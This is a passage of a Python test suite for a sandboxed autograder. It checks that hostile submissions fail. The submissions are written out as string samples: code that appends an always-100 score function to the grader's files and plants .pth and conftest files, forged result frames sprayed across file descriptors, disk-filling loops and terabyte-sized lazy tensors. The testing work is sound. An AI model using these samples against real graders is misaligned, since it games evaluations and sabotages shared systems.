           os.path.join(HOST_PACKAGE, "scoring", "score.py"), os.path.join(HOST_PACKAGE, "__init__.py")]
NEW_FILES = [f"/grader/autograder/{MARK}.py", f"/grader/autograder/scoring/{MARK}.py", f"/suite/conftest.py",
             os.path.join(HOST_PACKAGE, f"{MARK}.py"), os.path.join(sys.prefix, f"{MARK}.pth")]


def _rewrite():
    # Open for writing (append, so a broken sandbox cannot wreck the checkout this test runs from)
    # and make every check pass; then try to drop new modules next to the grader's own.
    wrote = []
    for path in TARGETS:
        try:
            with open(path, "a") as handle:
                handle.write(f"\n# {MARK}\ndef score(*args, **kwargs): return 100.0\n")
            wrote.append(path)
        except OSError:
            pass
    for path in NEW_FILES:
        try:
            with open(path, "x") as handle:
                handle.write(f"# {MARK}\n")
            wrote.append(path)
        except OSError:
            pass
    return wrote
'''


def test_the_grader_code_cannot_be_written(fresh_grader, toy, grade):
    mark = f"pwned_{uuid.uuid4().hex}"
    package = Path(autograder.__file__).resolve().parent
    watched = [package / "scoring" / "score.py", package / "scoring" / "compare.py",
               package / "sandbox" / "plugin.py", package / "__init__.py", *toy.suite_files]
    before = {path: sha256(path) for path in watched}
    new_files = [package / f"{mark}.py", package / "scoring" / f"{mark}.py",
                 Path(sys.prefix) / f"{mark}.pth", toy.suite_files[0].parent / "conftest.py"]
    try:
        source = src(GRADER_WRITER, HOST_PACKAGE=str(package), MARK=mark) + variant(
            name='wrote = _rewrite()\nraise RuntimeError("wrote: " + (" ".join(wrote)[:150] or "nothing"))')
        result = grade(fresh_grader, source)
        assert {path: sha256(path) for path in watched} == before
        assert not any(path.exists() for path in new_files)
        assert not any(mark in path.read_text(errors="replace") for path in _grader_files())
        assert by_test(result)["test_name"].message.endswith("wrote: nothing"), by_test(result)["test_name"].message
        assert result.score == 90
        assert_lost_only(result, ("test_name",))
    finally:  # undo only what this test's attack could have done
        for path in watched:
            text = path.read_text(errors="replace")
            if mark in text:
                path.write_text(text[:text.index(f"\n# {mark}")])
        for path in new_files:
            if path.exists() and mark in path.read_text(errors="replace"):
                path.unlink()


# == 22. huge lazy tensors ========================================================================

def _peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_huge_lazy_tensors_fail_without_blowing_up_the_trusted_side(toy_grader, grade):
    body = ("if x.dim() == 0:\n    return torch.zeros(1).expand(10**12)                        # 4 TB, as a view\n"
            "if x.dim() == 1:\n    return torch.zeros((), dtype=x.dtype).as_strided((10**12,), (0,))\n"
            "if x.dtype == torch.float32:\n    return x.new_zeros(1, 1).expand(10**6, 10**6)\n"
            "return x.new_zeros(1).as_strided((4, 3 * 10**11), (0, 0))")
    peak_before = _peak_rss_mb()
    result = grade(toy_grader, variant(double=body))
    assert result.score == 30
    assert_lost_only(result, DOUBLE_CHECKS, statuses=("failed", "error"))
    assert _peak_rss_mb() - peak_before < 256


FORGED_HUGE_TENSOR = r'''
import json, os, struct


def _forge_huge_tensor():
    # A result frame whose safetensors block declares a 10**12-element tensor (8 TB) it does not hold.
    header = json.dumps({"type": "result", "test": "test_toy.py::test_name", "error": None,
                         "observations": [{"name": "name", "value": {"__tensor__": "0"}, "how": {}}]}).encode()
    for offsets in ([0, 8 * 10**12], [0, 8]):
        meta = json.dumps({"0": {"dtype": "F64", "shape": [10**6, 10**6], "data_offsets": offsets}}).encode()
        message = struct.pack(">I", len(header)) + header + struct.pack("<Q", len(meta)) + meta + bytes(8)
        frame = struct.pack(">I", len(message)) + message
        for fd in range(3, 1024):  # the message channel is one of them
            try:
                os.write(fd, frame)
            except OSError:
                pass
'''


def test_a_forged_huge_tensor_frame_earns_nothing_and_allocates_nothing(toy_grader, grade):
    peak_before = _peak_rss_mb()
    result = grade(toy_grader, FORGED_HUGE_TENSOR + variant(name='_forge_huge_tensor()\nreturn "toy"'))
    assert by_test(result)["test_name"].score == 0
    assert result.score == 90
    assert_lost_only(result, ("test_name",), statuses=("error", "failed"))
    assert _peak_rss_mb() - peak_before < 256


# == 23. filling the disk =========================================================================

FILL_DISK = r'''
import os

MARK = __MARK__


def _fill():
    # 1 MB files until the file system refuses, in every writable place; bounded at 2 GB in all.
    chunk = b"\0" * (1 << 20)
    written = 0
    for folder in ("/tmp", os.getcwd(), "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        for i in range(2048):
            if written >= 2048:
                return written
            try:
                with open(os.path.join(folder, f"{MARK}-{i}.bin"), "wb") as handle:
                    handle.write(chunk)
            except OSError:
                break
            written += 1
    return written
'''


def test_filling_the_disk_stays_in_the_sandbox(fresh_grader, grade):
    mark = f"fill-{uuid.uuid4().hex}"
    free_before = shutil.disk_usage("/").free
    result = grade(fresh_grader, src(FILL_DISK, MARK=mark) + variant(name='_fill()\nreturn "toy"'))
    assert result.status == "graded"
    # Writing is allowed: the filler's own check passes, or errs or times out against a limit.
    assert_lost_only(result, ("test_name",), statuses=("passed", "error", "timeout"))
    assert abs(shutil.disk_usage("/").free - free_before) < 50 * 2**20
    for folder in ("/tmp", "/dev/shm", "/var/tmp", str(Path.home()), str(Path.cwd())):
        assert not list(Path(folder).glob(f"{mark}-*")), folder
    after = grade(fresh_grader, CORRECT)  # the same worker: its /tmp must not be full
    assert (after.score, after.status) == (100, "graded"), feedback(after)


# == a whole hostile class in one batch ===========================================================

def test_a_hostile_class_is_graded_in_full(toy, tmp_path):
    """Every submission appears exactly once, and the honest ones score full, whatever the others do."""
    submissions = {
        "exit_at_import": CORRECT + "import os\nos._exit(0)\n",
        "killer": _killer(KILLS["kill_everything"]),
        "planter": PLANT + variant(name='_plant()\nreturn "toy"'),
        "filler": src(FILL_DISK, MARK="fill-class") + variant(name='_fill()\nreturn "toy"'),
        "flooder": variant(name="print('x' * (1 << 24))\nreturn 'toy'"),
        "liar": LIAR + variant(double="return (3 * x).as_subclass(Liar)"),
        "amy": CORRECT,
        "zoe": CORRECT,
    }
    folder = write_class(tmp_path / "class", submissions)
    out = tmp_path / "out"
    results = grade_batch(toy, folder, out, jobs=2, echo=quiet)
    assert [r.submission for r in results] == sorted(submissions)
    scores = {r.submission: r.score for r in results}
    assert scores["amy"] == scores["zoe"] == scores["flooder"] == 100
    assert scores["exit_at_import"] == 0 and scores["killer"] == 90 and scores["liar"] == 30
    lines = (out / "results.jsonl").read_text().splitlines()
    assert sorted(json.loads(line)["submission"] for line in lines) == sorted(submissions)
